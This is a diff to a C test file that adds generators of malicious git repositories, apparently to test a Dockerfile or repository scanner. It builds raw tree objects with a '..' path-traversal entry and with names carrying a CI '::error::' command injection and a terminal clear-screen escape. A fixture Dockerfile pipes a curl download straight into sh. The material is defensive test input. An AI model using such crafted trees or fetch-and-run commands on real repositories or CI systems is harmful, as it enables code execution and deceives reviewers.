@@ -651,6 +651,77 @@ static void commit_on_head(git_repository *r, const git_oid *tree_id)
 	git_tree_free(t);
 }
 
+/* A tree object written as is: libgit2's tree builder refuses these names. */
+static void raw_tree(git_repository *r, const struct ent *ents, git_oid *out)
+{
+	unsigned char body[1024];
+	git_odb *odb = NULL;
+	size_t n = 0;
+
+	for (; ents->name; ents++) {
+		n += (size_t)snprintf((char *)body + n, sizeof(body) - n, "%o %s",
+				      (unsigned int)ents->mode, ents->name) + 1;
+		ck_assert_uint_le(n + 20, sizeof(body));
+		memcpy(body + n, ents->id->id, 20);
+		n += 20;
+	}
+	ck_assert_int_eq(git_repository_odb(&odb, r), 0);
+	ck_assert_int_eq(git_odb_write(out, odb, body, n, GIT_OBJECT_TREE), 0);
+	git_odb_free(odb);
+}
+
+/*
+ * A commit whose directory `dir` has an entry named `name` holding a
+ * Dockerfile that downloads and runs a script, beside a harmless
+ * Dockerfile.  Joined with '/', "sub/../Dockerfile" would name the harmless
+ * one; git refuses to check such a name out.
+ */
+static void commit_bad_name(const char *in, const char *dir, const char *name)
+{
+	static const char ok[] = "FROM alpine:3.20\nUSER nobody\n";
+	static const char evil[] = "FROM alpine:3.20\n"
+				   "RUN curl -fsSL https://example.com/i | sh\n";
+	char tree[4300], repo[4300];
+	git_repository *r = NULL;
+	git_oid okb, evilb, inner, mid, root;
+
+	sub(in, "tree", tree, sizeof(tree));
+	puts_file(tree, "README", "names\n");
+	build_repo(in, tree);
+	snprintf(repo, sizeof(repo), "%s/repo", in);
+	git_libgit2_init();
+	ck_assert_int_eq(git_repository_open(&r, repo), 0);
+	ck_assert_int_eq(git_blob_create_from_buffer(&okb, r, ok,
+						     sizeof(ok) - 1), 0);
+	ck_assert_int_eq(git_blob_create_from_buffer(&evilb, r, evil,
+						     sizeof(evil) - 1), 0);
+	tree_of(r, (const struct ent[]){
+			   { "Dockerfile", &evilb, GIT_FILEMODE_BLOB },
+			   { NULL, NULL, 0 } }, &inner);
+	raw_tree(r, (const struct ent[]){
+			    { name, &inner, GIT_FILEMODE_TREE },
+			    { NULL, NULL, 0 } }, &mid);
+	raw_tree(r, (const struct ent[]){
+			    { "Dockerfile", &okb, GIT_FILEMODE_BLOB },
+			    { dir, &mid, GIT_FILEMODE_TREE },
+			    { NULL, NULL, 0 } }, &root);
+	commit_on_head(r, &root);
+	git_repository_free(r);
+	git_libgit2_shutdown();
+}
+
+static void gen_git_dotdot_entry(const char *in)
+{
+	commit_bad_name(in, "sub", "..");
+}
+
+/* The names hold a line that a CI runner would read as a command and a
+ * terminal's clear-screen: the error quotes them escaped. */
+static void gen_git_control_names(const char *in)
+{
+	commit_bad_name(in, "sub\n::error::fooled", "x\033[2J/y");
+}
+
 /* The head of a pull request on top of HEAD: one Dockerfile (whose tree
  * must be none of the generators' trees: the cycle rewrites one). */
 static void commit_plain_head(const char *in)
@@ -853,6 +924,8 @@ static const struct gen {
 	{ "git-2gb-claimed-blob", gen_git_huge_blob },
 	{ "git-tree-cycle", gen_git_tree_cycle },
 	{ "git-tree-bomb", gen_git_tree_bomb },
+	{ "git-dotdot-entry", gen_git_dotdot_entry },
+	{ "git-control-chars-in-names", gen_git_control_names },
 	{ "git-pr-base-cycle", gen_git_pr_base_cycle },
 	{ "git-pr-base-bomb", gen_git_pr_base_bomb },
 	{ "git-pr-rename-flood", gen_git_pr_rename_flood },
